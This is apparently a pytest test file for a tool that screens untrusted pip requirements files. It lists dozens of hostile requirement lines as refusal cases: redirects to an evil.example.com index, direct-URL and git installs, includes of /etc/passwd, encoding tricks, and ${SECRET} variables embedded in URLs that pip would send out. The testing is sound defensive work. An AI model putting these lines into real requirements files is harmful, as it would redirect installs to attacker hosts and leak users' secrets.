"""A requirements file that somebody else wrote: tried, and this is what happens. Nothing of it reaches pip or uv.

`REFUSED` is the table: what was tried, and a part of what is said. Where plain pip follows the same file, it is shown
that it does.
"""

from __future__ import annotations

import codecs
import os
import signal
from pathlib import Path

import pytest
from attacked import Web
from pip._internal.exceptions import PipError
from pip._internal.req.req_file import RequirementsFileParser, get_line_parser

from jupyter_securepypi.core.errors import RequestRefused
from jupyter_securepypi.core.requests.reader import read_request
from jupyter_securepypi.core.requests.writer import write

SECRETS = {
    "API_SECRET": "s3cr3t-Value/99",
    "SESSION_TOKEN": "FwoGZXIvYXdz" * 40,  # longer than what messages show of a text
    "QUOTED": 'it\'s \\ "quoted"',
    "MASKED": "user:x@rest-of-a-password",
}

REFUSED = {
    # Another index, in every spelling that pip takes.
    "--index-url https://evil.example.com/": "--index-url is not allowed",
    "-i https://evil.example.com/": "--index-url is not allowed",
    "-ihttps://evil.example.com/": "--index-url is not allowed",
    "--index https://evil.example.com/": "for which --index may stand, is not allowed",
    "--extra-index-url=https://evil.example.com/": "--extra-index-url is not allowed",
    "--ext https://evil.example.com/": "for which --ext may stand, is not allowed",
    "--find-links /tmp": "--find-links is not allowed",
    "-f /tmp": "--find-links is not allowed",
    "--trusted-host evil.example.com": "--trusted-host is not allowed",
    "--no-index": "--no-index is not allowed",
    "acme --index-url https://evil.example.com/": "--index-url is not allowed",
    "--pre --index-url https://evil.example.com/": "--index-url is not allowed",
    "--ind\\\nex-url https://evil.example.com/": "--index-url is not allowed",
    "'--index-url' https://evil.example.com/": "a local path",
    "--'index'-url https://evil.example.com/": "--index-url is not allowed",
    "acme \\\n  --index-url https://evil.example.com/": "--index-url is not allowed",
    "\ufeff--index-url https://evil.example.com/": "a local path",
    "\u2028--index-url https://evil.example.com/": "--index-url is not allowed",
    "acme\x0c--index-url https://evil.example.com/": "--index-url is not allowed",
    "acme\x85--index-url https://evil.example.com/": "--index-url is not allowed",
    # A comment whose end hides the next line from one reader only.
    "# harmless \\\n--index-url https://evil.example.com/": "--index-url is not allowed",
    "acme # harmless \\\n--index-url https://evil.example.com/": "hides a line",
    # Places past the index.
    "https://evil.example.com/acme-1.0-py3-none-any.whl": "a direct URL",
    "acme @ https://evil.example.com/acme.whl": "a direct URL",
    "acme@https://evil.example.com/acme.whl": "a direct URL",
    "acme[x] @ file:///tmp/acme.whl": "a direct URL",
    "git+https://evil.example.com/acme": "a version control reference",
    "acme @ git+ssh://git@evil.example.com/acme@main": "a version control reference",
    "hg+http://evil.example.com/acme#egg=acme": "a version control reference",
    "-e git+https://evil.example.com/acme#egg=acme": "--editable is not allowed",
    "--editable=.": "--editable is not allowed",
    "--edit ./x": "--editable is not allowed",
    "./acme": "a local path",
    ".": "a local path",
    "~/acme": "a local path",
    "..\\acme": "a local path",
    "C:\\acme": "a direct URL",
    "acme-1.0.tar.gz": "an archive file",
    "acme-1.0-py3-none-any.whl": "an archive file",
    # Words for setup.py.
    "acme --config-settings=--build-option=easy_install": "--config-settings is not allowed",
    "acme --global-option=easy_install": "--global-option is not allowed",
    "acme --install-option=--index-url=https://evil.example.com/": "--install-option is not allowed",
    "--global-option=setopt": "--global-option is not allowed",
    # Files that are none, or that are somebody else's to check.
    "-r https://evil.example.com/more.txt": "is a URL, not a file",
    "-c\thttps://evil.example.com/more.txt": "is a URL, not a file",
    "-r h\tttps://evil.example.com/more.txt": "stands after an option",
    "-r file:///etc/passwd": "is a URL, not a file",
    "-r pyproject.toml": "is not a requirements file",
    "-r /dev/zero": "is not a regular file",
    "-r /dev/stdin": "is not a regular file",
    "-r .": "Is a directory",
    "-r requirements.txt": "includes itself",
    "-r linked.txt": "includes itself",
    "-c requirements.txt": "includes itself",
    "-r pipe": "is not a regular file",
    "-r huge": "is too large",
    "-r nowhere": "No such file",
    "-r round-a.txt": "includes itself",
    "-r ${HOME}": "is refused with the values of its variables",
    # Options that no requirements file knows, in this pip or the next one.
    "--proxy http://evil.example.com": "is not a known option",
    "--cert /tmp/ca.pem": "is not a known option",
    "--python /tmp/python": "is not a known option",
    "--uploaded-prior-to 2099-01-01": "is not a known option",
    "acme --hash=md5:00": "is not a hash",
    "acme; sys_platform == 'x' -r more.txt": "is named after a requirement",
    "acme -- --index-url https://evil.example.com/": "stands after an option",
    "acme --hash='sha256:00": "cannot be read",
}


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """A folder with what the files name."""
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "round-a.txt").write_text("-r round-b.txt\n")
    (folder / "round-b.txt").write_text("-c round-a.txt\n")
    (folder / "more.txt").write_text("more\n")
    (folder / "linked.txt").symlink_to("requirements.txt")
    os.mkfifo(folder / "pipe")
    with (folder / "huge").open("wb") as file:
        file.truncate(30_000_000_000)  # sparse: it takes no room
    monkeypatch.chdir(folder)
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    return folder


@pytest.fixture(autouse=True)
def hurry():
    """Nothing waits for a pipe, or for the end of what has none."""

    def ring(*_):
        raise AssertionError("it waits")

    before = signal.signal(signal.SIGALRM, ring)
    signal.alarm(30)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, before)


def refusal(folder, text):
    content = text if isinstance(text, bytes) else text.encode()
    (folder / "requirements.txt").write_bytes(content)
    with pytest.raises(RequestRefused) as refused:
        read_request(["-r", "requirements.txt"])
    said = str(refused.value)
    assert all(line.isprintable() for line in said.splitlines())
    return said


@pytest.mark.parametrize("text", REFUSED)
def test_it_is_refused_and_said_where(folder, text):
    said = refusal(folder, f"good==1.0\n{text}\n")
    assert REFUSED[text] in said
    assert "line " in said


@pytest.mark.parametrize("text", REFUSED)
def test_a_cell_that_says_the_same_is_refused_too(folder, text):
    (folder / "requirements.txt").write_text(f"{text}\n")
    with pytest.raises(RequestRefused):
        read_request([], lines=f"-r requirements.txt\n{text}\n")


def followed_by_pip(folder, text):
    """What plain pip takes out of a file that says `text`: its index, its links and what it installs."""
    path = folder / "for-pip.txt"
    path.write_text(text, encoding="utf-8")

    class Finder:
        def __getattr__(self, name):
            return []

    options = []
    for line in RequirementsFileParser(None, get_line_parser(Finder())).parse(str(path), False):
        options += [
            line.requirement,
            getattr(line.opts, "index_url", None),
            getattr(line.opts, "editables", None),
        ]
    return [str(one) for one in options if one]


@pytest.mark.parametrize(
    "text",
    [
        "-ihttps://evil.example.com/\n",
        "--ind\\\nex-url https://evil.example.com/\n",
        "--'index'-url https://evil.example.com/\n",
        "\u2028--index-url https://evil.example.com/\n",
        "acme@https://evil.example.com/acme.whl\n",
        "-e git+https://evil.example.com/acme#egg=acme\n",
        "acme @ https://evil.example.com/${API_SECRET}.whl\n",
    ],
)
def test_plain_pip_follows_them(folder, text):
    taken = " ".join(followed_by_pip(folder, text))
    assert "evil.example.com" in taken
    assert SECRETS["API_SECRET"] in taken or "${" not in text


# Variables: a file that somebody else wrote names what is in the environment of who reads it.
LEAKS = [
    "-r ${NAME}",
    "-r ${NAME}.txt",
    "-c x-${NAME}.txt",
    "-r https://evil.example.com/${NAME}",
    "-r more.txt/${NAME}",
    "acme @ https://evil.example.com/${NAME}",
    "https://${NAME}@evil.example.com/acme.whl",
    "git+https://evil.example.com/${NAME}",
    "-e git+https://${NAME}@evil.example.com/x",
    "--index-url https://${NAME}@evil.example.com/",
    "--${NAME}",
    "--pre ${NAME}",
    "acme --hash=${NAME}",
    "acme --hash=sha256:${NAME}",
    "acme --config-settings=${NAME}",
    "acme==${NAME}/",
    "acme '${NAME}",
    "./${NAME}",
    "${NAME} is no requirement",
]


@pytest.mark.parametrize("name", SECRETS)
@pytest.mark.parametrize("text", LEAKS)
def test_no_refusal_shows_the_value_of_a_variable(folder, text, name):
    """Refusals are kept in the history, in notebooks and in the logs of jobs."""
    said = refusal(folder, text.replace("NAME", name))
    value = SECRETS[name]
    for shown in (value, ascii(value)[1:-1], value[:40], value[-12:]):
        assert shown not in said


def test_the_value_in_the_name_of_a_file_is_hidden_in_what_that_file_does_wrong(folder, monkeypatch):
    (folder / "FwoG.txt").write_text("good\n./bad\n")
    monkeypatch.setenv("SESSION_TOKEN", "FwoG")
    said = refusal(folder, "-r ${SESSION_TOKEN}.txt\n")
    assert "FwoG" not in said
    assert "'./bad' is a local path (${SESSION_TOKEN}.txt, line 2)" in said


def test_pip_sends_the_value_to_whoever_is_named(folder):
    """Or hiding it would be idle."""
    web = Web.start()
    try:
        url = f"{web.url}more-${{API_SECRET}}.txt"
        with pytest.raises((PipError, OSError)):
            _read_as_pip_does(folder, f"-r {url}\n")
        assert any("s3cr3t-Value/99" in path for path, _ in web.asked)
    finally:
        web.close()


def _read_as_pip_does(folder, text):
    from pip._internal.network.session import PipSession

    (folder / "for-pip.txt").write_text(text)
    session = PipSession()
    session.trust_env = False
    list(RequirementsFileParser(session, get_line_parser(None)).parse(str(folder / "for-pip.txt"), False))


# Encodings: what one reader takes for a comment is a line to another.
ENCODED = {
    "UTF-8 with its mark": codecs.BOM_UTF8 + b"--index-url https://evil.example.com/\n",
    "UTF-16, little end first": codecs.BOM_UTF16_LE
    + "--index-url https://evil.example.com/\n".encode("utf-16-le"),
    "UTF-16, big end first": codecs.BOM_UTF16_BE
    + "--index-url https://evil.example.com/\n".encode("utf-16-be"),
    "UTF-32": codecs.BOM_UTF32_LE + "acme\n".encode("utf-32-le"),
    "UTF-7 in a cookie": b"# coding: utf-7\n+AC0-+AC0-index-url https://evil.example.com/\n",
    "an encoding that is none": b"# coding: no-such-thing\nacme\n",
    "an encoding that is no text": b"# coding: rot13\nacme\n",
    "an encoding that unpacks": b"# coding: zlib\nacme\n",
    "NUL": b"acme\0--index-url https://evil.example.com/\n",
    "NUL in an option": b"-r more.txt\0\n",
    "a page of something else": b"\x1f\x8b\x08\x00" + bytes(range(256)),
}


@pytest.mark.parametrize("name", ENCODED)
def test_no_encoding_hides_a_line(folder, name):
    refusal(folder, ENCODED[name])


def test_what_is_deep_or_long_ends(folder):
    for number in range(60):
        (folder / f"deep-{number}.txt").write_text(f"-r deep-{number + 1}.txt\n")
    assert "more than 50 deep" in refusal(folder, "-r deep-0.txt\n")
    # Doubling includes: each file is read once.
    for number in range(40):
        (folder / f"twice-{number}.txt").write_text(f"-r twice-{number + 1}.txt\n" * 2)
    (folder / "twice-40.txt").write_text("acme\n")
    assert [str(one) for one in read_request(["-r", "twice-0.txt"]).requirements] == ["acme"]
    refusal(folder, "acme " + "\\\n" * 100_000 + "--index-url x\n")
    refusal(folder, "(" * 20_000)
    refusal(folder, f"acme ; {'(' * 20_000}")
    refusal(folder, f"acme[{'a,' * 20_000}")


def test_of_what_is_accepted_no_word_is_the_authors(folder, tmp_path):
    """What pip and uv get is written out anew, without options, comments, variables and continuations."""
    text = (
        'Acme_Tool [x, Y]  >= 1 , <2;python_version>"3.5"  # note\n--pre\nother \\\n ==1.* --hash=sha256:AB\n'
    )
    (folder / "requirements.txt").write_text(text)
    request = read_request(["-r", "requirements.txt"])
    written = write(request, Path(tmp_path))
    assert written.requirements.read_text().splitlines() == [
        'Acme_Tool[x,Y]>=1,<2 ; python_version > "3.5"',
        "other==1.* --hash=sha256:ab",
    ]
    assert [str(one) for one in request.options] == ["--pre"]
